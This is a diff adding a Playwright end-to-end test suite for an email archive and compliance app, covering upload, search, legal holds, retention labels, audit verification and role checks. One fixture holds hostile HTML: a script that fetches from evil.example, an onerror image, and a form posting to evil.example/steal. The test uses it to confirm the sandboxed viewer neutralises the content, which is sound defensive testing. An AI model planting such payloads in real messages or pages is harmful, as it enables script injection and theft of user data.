@@ -1,0 +1,186 @@
+import { expect, test, type APIRequestContext, type Page } from "@playwright/test";
+
+/**
+ * One officer's day in a real Chromium against the production build: first-run setup, upload and
+ * search, email view with hostile HTML, legal hold bulk apply, label and explanation, audit
+ * verification, and a Read Only user who is refused. Screenshots land in docs/screenshots/.
+ */
+const ADMIN = { email: "officer@example.com", password: "correct horse battery staple", first_name: "Olivia", last_name: "Officer" };
+const READER = { email: "reader@example.com", password: "reader password 123", first_name: "Rita", last_name: "Reader" };
+
+function message(subject: string, body: string, html = false): string {
+  return [
+    "From: Alice Sender <alice@example.com>",
+    "To: Bob <bob@example.com>",
+    `Subject: ${subject}`,
+    "Date: Mon, 15 Jan 2024 12:00:00 +0000",
+    `Message-ID: <${subject.replace(/\W+/g, "-")}@e2e.example>`,
+    "MIME-Version: 1.0",
+    `Content-Type: text/${html ? "html" : "plain"}; charset=utf-8`,
+    "",
+    body,
+    "",
+  ].join("\r\n");
+}
+
+const HOSTILE_HTML = `<p>Totally harmless invoice</p><script>window.parent.pwned = true; fetch("https://evil.example/script")</script>
+<img src="https://evil.example/pixel.png" onerror="window.parent.pwned = true"><form action="https://evil.example/steal"><input name="x"></form>
+<a href="javascript:window.parent.pwned=true">click</a>`;
+
+const MBOX = [
+  message("Zeppelin procurement plan", "The zeppelin fleet budget is attached in spirit."),
+  message("Lunch on Friday", "Pizza or sushi?"),
+  message("Hostile invoice", HOSTILE_HTML, true),
+]
+  .map((raw) => `From sender@example.com Mon Jan 15 12:00:00 2024\n${raw.replace(/^(>*From )/gm, ">$1")}\n`)
+  .join("");
+
+async function token(request: APIRequestContext, credentials: { email: string; password: string }): Promise<string> {
+  const response = await request.post("/v1/auth/login", { data: { email: credentials.email, password: credentials.password } });
+  expect(response.status()).toBe(200);
+  return (await response.json()).accessToken;
+}
+
+async function signIn(page: Page, credentials: { email: string; password: string }) {
+  await page.goto("/login");
+  await page.getByLabel("Email").fill(credentials.email);
+  await page.getByLabel("Password").fill(credentials.password);
+  await page.getByRole("button", { name: "Sign in" }).click();
+  await expect(page.getByRole("heading", { name: "Dashboard" })).toBeVisible();
+}
+
+test.describe.serial("compliance officer", () => {
+  test("first-run setup, sign-out and sign-in", async ({ page }) => {
+    await page.goto("/");
+    await expect(page).toHaveURL(/\/setup$/);
+    await page.getByLabel("First name").fill(ADMIN.first_name);
+    await page.getByLabel("Last name").fill(ADMIN.last_name);
+    await page.getByLabel("Email").fill(ADMIN.email);
+    await page.getByLabel("Password").fill(ADMIN.password);
+    await page.getByRole("button", { name: "Create administrator" }).click();
+    await expect(page.getByRole("heading", { name: "Dashboard" })).toBeVisible();
+    await page.getByRole("button", { name: "Sign out" }).click();
+    await expect(page).toHaveURL(/\/login/);
+    await signIn(page, ADMIN);
+  });
+
+  test("upload an mbox with a progress bar and find a message by full-text search", async ({ page }) => {
+    await signIn(page, ADMIN);
+    await page.getByRole("link", { name: "Ingestion sources" }).click();
+    const create = page.getByRole("form", { name: "New upload source" });
+    await create.getByLabel("Name").fill("Uploads");
+    await create.getByRole("button", { name: "Create" }).click();
+    await expect(page.getByRole("cell", { name: "Uploads" })).toBeVisible();
+    const upload = page.getByRole("form", { name: "Upload mail" });
+    await upload.getByLabel("Mailbox").fill("bob@example.com");
+    await upload.getByLabel("File").setInputFiles({ name: "inbox.mbox", mimeType: "application/mbox", buffer: Buffer.from(MBOX) });
+    await upload.getByRole("button", { name: "Upload" }).click();
+    await expect(upload.getByRole("status")).toHaveText("Imported 3, duplicates 0, failed 0");
+    await page.screenshot({ path: "docs/screenshots/sources.png", fullPage: true });
+
+    await page.getByRole("link", { name: "Emails" }).click();
+    await page.getByLabel("Words").fill("zeppelin");
+    await page.getByRole("button", { name: "Search" }).click();
+    await expect(page).toHaveURL(/query=zeppelin/);
+    const results = page.getByRole("region", { name: "Results" });
+    await expect(results.getByText("1 email")).toBeVisible();
+    await expect(results.getByRole("link", { name: "Zeppelin procurement plan" })).toBeVisible();
+    await expect(results.locator("mark").first()).toHaveText(/zeppelin/i);
+    await page.screenshot({ path: "docs/screenshots/emails.png", fullPage: true });
+    await page.getByRole("link", { name: "Dashboard" }).click();
+    await expect(page.getByText("Emails archived", { exact: true })).toBeVisible();
+    await page.screenshot({ path: "docs/screenshots/dashboard.png", fullPage: true });
+  });
+
+  test("an email with hostile HTML renders inert", async ({ page }) => {
+    const remoteRequests: string[] = [];
+    page.on("request", (request) => request.url().includes("evil.example") && remoteRequests.push(request.url()));
+    await signIn(page, ADMIN);
+    await page.goto("/emails?query=invoice");
+    await page.getByRole("link", { name: "Hostile invoice" }).click();
+    const frame = page.frameLocator('iframe[title="Message body"]');
+    await expect(frame.getByText("Totally harmless invoice")).toBeVisible();
+    await expect(page.locator('iframe[title="Message body"]')).toHaveAttribute("sandbox", "");
+    await expect(frame.locator("script, form, [onerror]")).toHaveCount(0);
+    await page.waitForTimeout(500);
+    expect(await page.evaluate(() => (window as unknown as { pwned?: boolean }).pwned)).toBeUndefined();
+    expect(remoteRequests).toEqual([]);
+    await page.screenshot({ path: "docs/screenshots/email.png", fullPage: true });
+  });
+
+  test("bulk-apply a hold from a search, fail to delete the held email, deactivate and delete the hold", async ({ page, request }) => {
+    const adminToken = await token(request, ADMIN);
+    expect((await request.put("/v1/settings", { headers: { authorization: `Bearer ${adminToken}` }, data: { deletionEnabled: true } })).status()).toBe(200);
+    await signIn(page, ADMIN);
+    await page.getByRole("link", { name: "Legal holds" }).click();
+    const create = page.getByRole("form", { name: "New legal hold" });
+    await create.getByLabel("Name").fill("Case Zeppelin");
+    await create.getByRole("button", { name: "Create hold" }).click();
+    await expect(page.getByTestId("hold-Case Zeppelin")).toBeVisible();
+    const bulk = page.getByRole("form", { name: "Bulk apply from a search" });
+    await bulk.getByLabel("Hold").selectOption({ label: "Case Zeppelin" });
+    await bulk.getByLabel("Words").fill("zeppelin");
+    await bulk.getByRole("button", { name: "Preview matches" }).click();
+    await expect(bulk.getByTestId("bulk-preview-count")).toHaveText("1 matching emails");
+    await bulk.getByRole("button", { name: "Apply hold to 1 emails" }).click();
+    await expect(bulk.getByTestId("bulk-result")).toHaveText("1 emails newly linked");
+    await page.screenshot({ path: "docs/screenshots/holds.png", fullPage: true });
+
+    await page.goto("/emails?query=zeppelin");
+    await page.getByRole("link", { name: "Zeppelin procurement plan" }).click();
+    await expect(page.getByText("On legal hold")).toBeVisible();
+    await page.getByRole("button", { name: "Delete" }).click();
+    await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
+    await expect(page.getByText(/on legal hold \(Case Zeppelin\) and cannot be deleted/)).toBeVisible();
+
+    await page.getByRole("link", { name: "Legal holds" }).click();
+    const row = page.getByTestId("hold-Case Zeppelin");
+    await expect(row.getByRole("button", { name: "Delete" })).toBeDisabled();
+    await row.getByRole("button", { name: "Deactivate" }).click();
+    await expect(row.getByText("Inactive")).toBeVisible();
+    await row.getByRole("button", { name: "Delete" }).click();
+    await expect(page.getByTestId("hold-Case Zeppelin")).toHaveCount(0);
+  });
+
+  test("apply a retention label and see the explanation", async ({ page, request }) => {
+    const adminToken = await token(request, ADMIN);
+    const label = await request.post("/api/v1/enterprise/retention-policy/labels", { headers: { authorization: `Bearer ${adminToken}` }, data: { name: "Seven years", retentionPeriodDays: 2555 } });
+    expect(label.status()).toBe(201);
+    await signIn(page, ADMIN);
+    await page.goto("/emails?query=lunch");
+    await page.getByRole("link", { name: "Lunch on Friday" }).click();
+    await expect(page.getByTestId("retention-explanation")).toHaveText("Kept forever: no label or retention policy applies.");
+    await page.getByLabel("Label to apply").selectOption({ label: "Seven years" });
+    await page.getByRole("button", { name: "Apply label" }).click();
+    await expect(page.getByTestId("retention-explanation")).toHaveText(/Deleted on \d{4}-\d{2}-\d{2} by label "Seven years" \(2555 days\)\./);
+  });
+
+  test("verify the audit chain", async ({ page }) => {
+    await signIn(page, ADMIN);
+    await page.getByRole("link", { name: "Audit log" }).click();
+    await page.getByRole("button", { name: "Verify chain" }).click();
+    await expect(page.getByTestId("verify-result")).toContainText("Chain verified");
+    await page.screenshot({ path: "docs/screenshots/audit.png", fullPage: true });
+  });
+
+  test("a Read Only user cannot see admin pages and the server refuses them anyway", async ({ page, request }) => {
+    const adminToken = await token(request, ADMIN);
+    const roles = await (await request.get("/v1/roles", { headers: { authorization: `Bearer ${adminToken}` } })).json();
+    const readOnly = roles.find((role: { slug?: string; name: string }) => role.slug === "predefined_read_only" || /read only/i.test(role.name));
+    const created = await request.post("/v1/users", { headers: { authorization: `Bearer ${adminToken}` }, data: { ...READER, roleId: readOnly.id } });
+    expect(created.status()).toBe(201);
+    await signIn(page, READER);
+    const nav = page.getByRole("navigation", { name: "Main" });
+    await expect(nav.getByRole("link", { name: "Emails" })).toBeVisible();
+    await expect(nav.getByRole("link", { name: "Ingestion sources" })).toHaveCount(0);
+    await expect(nav.getByRole("link", { name: "Legal holds" })).toHaveCount(0);
+    await expect(nav.getByRole("link", { name: "Audit log" })).toHaveCount(0);
+    const refused = await page.evaluate(async () => {
+      const response = await fetch("/api/trpc/sources.list", { headers: { "x-trpc-source": "web" } });
+      return response.status;
+    });
+    expect(refused).toBe(403);
+    await page.goto("/holds");
+    await expect(page.getByRole("alert")).toBeVisible();
+  });
+});
